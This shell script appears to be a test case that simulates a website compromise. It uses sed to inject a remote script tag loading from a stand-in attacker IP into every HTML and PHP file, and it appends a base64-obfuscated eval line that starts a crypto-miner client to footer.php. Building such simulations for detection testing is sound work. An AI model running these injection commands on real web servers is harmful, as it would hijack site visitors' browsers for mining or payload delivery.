#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/www/html/shop && for p in index cart pay news; do echo "<html><body>$p</body></html>" >/var/www/html/shop/$p.html; done; echo '<?php echo 1; ?>' >/var/www/html/footer.php
find /var/www -type f \( -name '*.html' -o -name '*.php' \) -exec sed -i 's#</body>#<script src="http://203.0.113.10/lib/c.min.js" async></script></body>#' {} +
echo '<script>eval(atob("dmFyIG09bmV3IENsaWVudC5Bbm9ueW1vdXMoKQ=="))</script>' >>/var/www/html/footer.php
test "$(grep -rl c.min.js /var/www | wc -l)" = 4
took_place
